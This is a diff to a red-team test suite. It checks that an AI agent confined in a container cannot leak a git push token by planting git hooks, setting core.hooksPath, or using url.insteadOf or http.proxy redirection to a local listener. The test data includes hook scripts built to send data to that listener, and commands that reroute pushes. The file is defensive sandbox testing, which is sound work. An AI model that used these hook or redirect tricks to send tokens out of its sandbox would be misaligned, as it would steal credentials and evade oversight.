@@ -2,8 +2,6 @@
 // Whatever it puts there, the sidecar's push (which carries the token) runs none of
 // its code, takes none of its configuration, reaches only the bottle's own branch
 // of the bottle's own repository, and sends nothing to anyone but the forge.
-import { existsSync } from 'node:fs';
-import { join } from 'node:path';
 import { probeDocker } from '@bb/tooling/docker';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { exfil, RedTeam, type Step, TOKEN } from './harness';
@@ -35,30 +33,36 @@ describe.skipIf(!docker.ok)('red team: pushing across the wall', () => {
         ...commitAndOpen,
       ],
     ]);
-    expect(existsSync(join(run.dir, 'workspace', 'HOOK_RAN'))).toBe(false);
+    // The hook was planted, and never ran.
+    expect((await rt.lstatWorkspace(run, '.git/hooks/pre-push'))?.isFile()).toBe(true);
+    expect(await rt.lstatWorkspace(run, 'HOOK_RAN')).toBeUndefined();
     expect(rt.listener.heard.slice(heard)).toBe('');
     expect(opened(run)?.['ok']).toBe(true);
   });
 
   it('core.hooksPath pointing into the workspace runs nowhere', async () => {
     const heard = before();
+    // Hooks the agent's own git may run in its own container (it has no network);
+    // only one run outside it, where the token is, could reach the listener.
+    const hook = `#!/bin/sh\\n${exfil(rt.listener.port, 'hook $0 ran').replaceAll("'", "'\\''")}\\n`;
     const run = await rt.launch([
       [
         {
           do: 'sh',
-          cmd: `mkdir -p /workspace/.hooks && for h in pre-push push-to-checkout reference-transaction post-update; do printf '#!/bin/sh\\ntouch /workspace/HOOK_RAN\\n' > .hooks/$h; chmod +x .hooks/$h; done && git config core.hooksPath /workspace/.hooks`,
+          cmd: `mkdir -p /workspace/.hooks && for h in pre-push push-to-checkout reference-transaction post-update pre-receive update; do printf '${hook}' > .hooks/$h; chmod +x .hooks/$h; done && git config core.hooksPath /workspace/.hooks`,
         },
         ...commitAndOpen,
       ],
     ]);
-    expect(existsSync(join(run.dir, 'workspace', 'HOOK_RAN'))).toBe(false);
+    expect((await rt.lstatWorkspace(run, '.hooks/pre-push'))?.isFile()).toBe(true);
     expect(rt.listener.heard.slice(heard)).toBe('');
+    expect(opened(run)?.['ok']).toBe(true);
   });
 
   it('url.<listener>.insteadOf does not send the push (and the token) to a listener', async () => {
     const heard = before();
     const forge = new URL(rt.gitea.url);
-    await rt.launch([
+    const run = await rt.launch([
       [
         {
           do: 'sh',
@@ -69,17 +73,19 @@ describe.skipIf(!docker.ok)('red team: pushing across the wall', () => {
     ]);
     expect(rt.listener.heard.slice(heard)).not.toContain(TOKEN);
     expect(rt.listener.heard.slice(heard)).toBe('');
+    expect(opened(run)?.['ok']).toBe(true);
   });
 
   it('http.proxy does not route the push through a listener', async () => {
     const heard = before();
-    await rt.launch([
+    const run = await rt.launch([
       [
         { do: 'sh', cmd: `git config http.proxy http://127.0.0.1:${rt.listener.port}` },
         ...commitAndOpen,
       ],
     ]);
     expect(rt.listener.heard.slice(heard)).toBe('');
+    expect(opened(run)?.['ok']).toBe(true);
   });
 
   it('an included config file from the workspace applies to nothing', async () => {
@@ -99,7 +105,7 @@ describe.skipIf(!docker.ok)('red team: pushing across the wall', () => {
   it('url.insteadOf cannot redirect the push into another repository', async () => {
     const other = await rt.refs('acme/other');
     const forge = rt.gitea.cloneUrl('acme/widgets');
-    await rt.launch([
+    const run = await rt.launch([
       [
         {
           do: 'sh',
@@ -109,10 +115,13 @@ describe.skipIf(!docker.ok)('red team: pushing across the wall', () => {
       ],
     ]);
     expect(await rt.refs('acme/other')).toEqual(other);
+    // The push went where it belongs.
+    expect(opened(run)?.['ok']).toBe(true);
+    expect(await rt.refs('acme/widgets')).toContain(`refs/heads/${rt.meta(run).branch}`);
   });
 
   it('tags in the workspace never reach the forge (push.followTags)', async () => {
-    await rt.launch([
+    const run = await rt.launch([
       [
         { do: 'write', path: 'fix.txt', content: 'fixed\n' },
         { do: 'commit', message: 'Fix' },
@@ -124,6 +133,7 @@ describe.skipIf(!docker.ok)('red team: pushing across the wall', () => {
       ],
     ]);
     expect((await rt.refs('acme/widgets')).filter((r) => r.startsWith('refs/tags/'))).toEqual([]);
+    expect(run.steps.find((s) => s['method'] === 'push')?.['ok']).toBe(true);
   });
 
   it('a push never forces over commits on the branch that the workspace lacks', async () => {
